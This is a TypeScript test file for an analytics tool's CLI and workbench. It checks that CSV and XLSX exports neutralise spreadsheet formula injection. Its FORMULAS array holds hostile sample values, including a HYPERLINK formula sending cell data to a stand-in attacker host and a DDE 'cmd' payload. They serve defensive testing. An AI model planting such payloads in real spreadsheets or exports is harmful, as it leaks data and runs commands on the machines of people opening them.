import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCommand } from '../../../analytics/cli/program.ts';
import { fundingWorkbook } from '../../../analytics/funding/export-workbook.ts';
import { Workbench } from '../../../analytics/workbench.ts';
import { figuresOf, returnOf, unknownOf } from './hostile-files.ts';

const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?"&A1;"Croydon")',
  `+cmd|' /C calc'!A0`,
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
];
const PASSPHRASE = 'winter-harbour-lantern-47';

let folder = '';
let common: string[] = [];
let workbench: Workbench;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'permanence-formulas-'));
  const path = join(folder, 'a.permanence');
  writeFileSync(join(folder, 'passphrase'), PASSPHRASE);
  common = ['--workspace', path, '--passphrase-file', join(folder, 'passphrase')];
  const options = { path, passphrase: PASSPHRASE, workFactor: 2, host: 'script' as const };
  workbench = await Workbench.openFile({ ...options, create: true });
  for (const [turn, text] of FORMULAS.entries()) {
    await workbench.load([
      figuresOf(text, `=figures-${turn}.csv`),
      returnOf(text, `+header-${turn}.csv`),
      unknownOf(text, `@tracker-${turn}.csv`),
    ]);
    await workbench.screen.giveReason({ reason: text, by: text });
  }
  await workbench.save();
});
afterAll(async () => {
  await workbench.close();
  rmSync(folder, { recursive: true, force: true });
});

async function csvOf(...argv: string[]): Promise<string> {
  let out = '';
  let err = '';
  const streams = { out: (text: string) => (out += text), err: (text: string) => (err += text) };
  await runCommand([...argv, ...common, '--format', 'csv'], streams);
  if (out === '') throw new Error(`"${argv.join(' ')}" printed nothing: ${err}`);
  return out;
}

/** The texts of the sheets of a workbook, and whether any of it is worked out when it is opened. */
function sheetsOf(bytes: Uint8Array) {
  const parts = Object.entries(unzipSync(bytes)).map(
    ([path, part]) => [path, Buffer.from(part).toString()] as const,
  );
  const xml = parts.map(([, part]) => part).join('\n');
  return { parts: parts.map(([path]) => path), xml };
}

function expectNothingRuns(bytes: Uint8Array): void {
  const { parts, xml } = sheetsOf(bytes);
  expect(xml).not.toMatch(/<f[\s>]/);
  expect(xml).not.toMatch(/<hyperlink|<definedName|ddeLink|<externalReference/);
  expect(parts.filter((path) => /externalLinks|vbaProject|connections/.test(path))).toEqual([]);
}

describe('threat: a cell of an export runs as a formula', () => {
  it.each([
    [['sources']],
    [['sources', '--rejects']],
    [['query', '--measure', 'matches']],
    [['quality', '--list', 'findings']],
    [['quality', '--list', 'summary']],
    [['audit']],
    [['check']],
  ])('in none of the columns of permanence %s', async (argv) => {
    const csv = await csvOf(...argv);
    const rows = parse(csv) as string[][];
    for (const cell of rows.flat()) {
      if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('is really among what is exported: otherwise the tests above would pass for nothing', async () => {
    expect(await csvOf('sources')).toContain("'=figures-0.csv");
    expect(await csvOf('sources', '--rejects')).toContain("'-1+1");
    expect(await csvOf('query', '--measure', 'matches')).toContain("'@SUM(A1:A9)");
  });

  it('in no sheet of the quality workbook', async () => {
    const bytes = await workbench.qualityWorkbook();
    expect(sheetsOf(bytes).xml).toContain('=figures-0.csv');
    expectNothingRuns(bytes);
  });

  it('in no sheet of the quality workbook that the command writes', async () => {
    const out = join(folder, 'quality.xlsx');
    await csvOf('quality', '--out', out);
    expectNothingRuns(readFileSync(out));
  });

  it('in no sheet of the funding workbook', async () => {
    const [text = ''] = FORMULAS;
    const result = await workbench.funding.run({
      schema: 1,
      name: text,
      partners: [text, '+Greenwich'],
      budget: { '2023/24': 1000 },
      demand: { source: 'given', values: {} },
      formula: [{ kind: 'equal', weight: 1 }],
      rounding: 'pound',
    } as never);
    const bytes = await fundingWorkbook([result]);
    expect(sheetsOf(bytes).xml).toContain('+Greenwich');
    expectNothingRuns(bytes);
  });
});
